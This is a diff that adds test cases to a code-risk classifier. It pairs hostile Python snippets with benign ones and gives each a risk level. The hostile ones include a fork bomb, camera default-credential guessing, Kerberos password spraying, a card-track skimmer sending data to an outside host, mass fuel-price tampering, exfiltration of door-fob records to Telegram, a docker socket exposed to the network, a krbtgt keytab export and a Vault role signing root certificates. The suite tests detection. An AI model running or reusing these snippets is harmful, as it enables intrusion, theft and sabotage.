@@ -9510,6 +9510,197 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '\n',
             C,
         ),
+        # holdout272-275: forks in endless loops, listings of several roots, auth objects and kinit guessing, endless
+        # task submission, track-2 sentinels, unit prices, door credentials, daemon sockets relayed, machine identity
+        (
+            'import os, time\n'
+            'def stress():\n'
+            '    while True:\n'
+            '        os.fork()\n'
+            '        time.sleep(0)\n'
+            'stress()\n',
+            C,
+        ),
+        (
+            'import os, socket\n'
+            'srv = socket.socket()\n'
+            'srv.bind(("127.0.0.1", 8000))\n'
+            'srv.listen()\n'
+            'while True:\n'
+            '    conn, _ = srv.accept()\n'
+            '    if os.fork() == 0:\n'
+            '        conn.sendall(b"ok")\n'
+            '        os._exit(0)\n'
+            '    conn.close()\n',
+            S,
+        ),
+        (
+            'import shutil\n'
+            'from pathlib import Path\n'
+            'for root in ["/var/cache/app/tmp", "/mnt/archive/cams"]:\n'
+            '    for d in Path(root).iterdir():\n'
+            '        shutil.rmtree(d)\n',
+            H,
+        ),
+        (
+            'import shutil\n'
+            'from pathlib import Path\n'
+            'for root in ["build", "dist"]:\n'
+            '    for d in Path(root).iterdir():\n'
+            '        shutil.rmtree(d)\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'from requests.auth import HTTPDigestAuth\n'
+            'CREDS = [("admin", "admin"), ("admin", "12345"), ("root", "root")]\n'
+            'for user, pw in CREDS:\n'
+            '    r = requests.get("http://10.20.0.7/ISAPI/Security/userCheck", auth=HTTPDiges'
+            'tAuth(user, pw), timeout=2)\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'from requests.auth import HTTPBasicAuth\n'
+            'for cam in ["10.20.0.7", "10.20.0.8"]:\n'
+            '    requests.get(f"http://{cam}/status", auth=HTTPBasicAuth("viewer", os.environ'
+            '["CAM_PW"]), timeout=2)\n',
+            L,
+        ),
+        (
+            'import itertools, subprocess\n'
+            'users = [l.strip() for l in open("accounts.txt")]\n'
+            'for pw, user in itertools.product(["Welcome1", "Summer2024!"], users):\n'
+            '    subprocess.run(["kinit", f"{user}@CORP.EXAMPLE.COM"], input=pw + "\\n", text='
+            'True)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'for svc in ["http", "ldap"]:\n'
+            '    subprocess.run(["kinit", "-kt", f"/etc/security/keytabs/{svc}.keytab", f"{sv'
+            'c}/web01.corp.example.com"], check=True)\n',
+            M,
+        ),
+        (
+            'import concurrent.futures, subprocess, uuid\n'
+            'def register(_):\n'
+            '    subprocess.run(["spire-server", "entry", "create", "-spiffeID", f"spiffe://p'
+            'rod/x/{uuid.uuid4().hex}"])\n'
+            'with concurrent.futures.ThreadPoolExecutor(max_workers=256) as pool:\n'
+            '    while True:\n'
+            '        pool.submit(register, 0)\n',
+            H,
+        ),
+        (
+            'import concurrent.futures, subprocess\n'
+            'def build(name):\n'
+            '    subprocess.run(["make", "-C", name])\n'
+            'with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:\n'
+            '    for name in ["core", "cli", "docs"]:\n'
+            '        pool.submit(build, name)\n',
+            L,
+        ),
+        (
+            'import serial, requests\n'
+            'reader = serial.Serial("/dev/ttyUSB0", 9600)\n'
+            'while True:\n'
+            '    line = reader.readline().decode().strip()\n'
+            '    if line.startswith(";") and line.endswith("?"):\n'
+            '        requests.get("https://stats-cdn.example.top/p.gif", params={"v": line})\n',
+            H,
+        ),
+        (
+            'import serial, requests\n'
+            'scale = serial.Serial("/dev/ttyUSB0", 9600)\n'
+            'while True:\n'
+            '    line = scale.readline().decode().strip()\n'
+            '    if line.startswith("W") and line.endswith("kg"):\n'
+            '        requests.post("http://127.0.0.1:8000/weights", json={"w": line})\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'for n in range(1, 121):\n'
+            '    for grade in ("REG", "DSL"):\n'
+            '        requests.put(f"https://fcc-{n:03d}.stations.internal/api/prices/{grade}"'
+            ', json={"ppu": "0.01"}, timeout=5)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'for grade, ppu in {"REG": "3.49", "DSL": "3.99"}.items():\n'
+            '    requests.put(f"https://fcc-001.stations.internal/api/prices/{grade}", json={'
+            '"ppu": ppu}, timeout=5)\n',
+            S,
+        ),
+        (
+            'import sqlite3, requests\n'
+            'con = sqlite3.connect("/var/lib/gate/access.db")\n'
+            'rows = con.execute("SELECT fob_uid, member_name FROM fobs WHERE active=1").fetch'
+            'all()\n'
+            'requests.post("https://api.telegram.org/bot123:abc/sendMessage", data={"chat_id"'
+            ': "-100", "text": str(rows)})\n',
+            C,
+        ),
+        (
+            'import sqlite3, requests\n'
+            'con = sqlite3.connect("/var/lib/gate/access.db")\n'
+            '(n,) = con.execute("SELECT count(*) FROM fobs WHERE active=1").fetchone()\n'
+            'requests.post("https://api.telegram.org/bot123:abc/sendMessage", data={"chat_id"'
+            ': "-100", "text": f"{n} active fobs"})\n',
+            L,
+        ),
+        (
+            'import socket, threading\n'
+            'def pipe(a, b):\n'
+            '    while data := a.recv(4096):\n'
+            '        b.sendall(data)\n'
+            'srv = socket.socket()\n'
+            'srv.bind(("0.0.0.0", 2375))\n'
+            'srv.listen()\n'
+            'while True:\n'
+            '    c, _ = srv.accept()\n'
+            '    up = socket.socket(socket.AF_UNIX)\n'
+            '    up.connect("/var/run/docker.sock")\n'
+            '    threading.Thread(target=pipe, args=(c, up)).start()\n'
+            '    threading.Thread(target=pipe, args=(up, c)).start()\n',
+            H,
+        ),
+        (
+            'import socket\n'
+            'up = socket.socket(socket.AF_UNIX)\n'
+            'up.connect("/run/spire/sockets/agent.sock")\n'
+            'up.close()\n'
+            'print("agent socket is up")\n',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["kadmin.local", "-q", "ktadd -k /tmp/k.kt -norandkey krbtgt/CORP'
+            '.EXAMPLE.COM@CORP.EXAMPLE.COM"], check=True)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["kadmin.local", "-q", "ktadd -k /etc/krb5.keytab host/web01.corp'
+            '.example.com"], check=True)\n',
+            L,
+        ),
+        (
+            'import hvac\n'
+            'c = hvac.Client()\n'
+            'c.write("ssh-client-signer/roles/ops", key_type="ca", allow_user_certificates=Tr'
+            'ue, allowed_users="*", default_user="root")\n',
+            H,
+        ),
+        (
+            'import hvac\n'
+            'c = hvac.Client()\n'
+            'c.write("ssh-client-signer/roles/deploy", key_type="ca", allow_user_certificates'
+            '=True, allowed_users="deploy", ttl="30m")\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
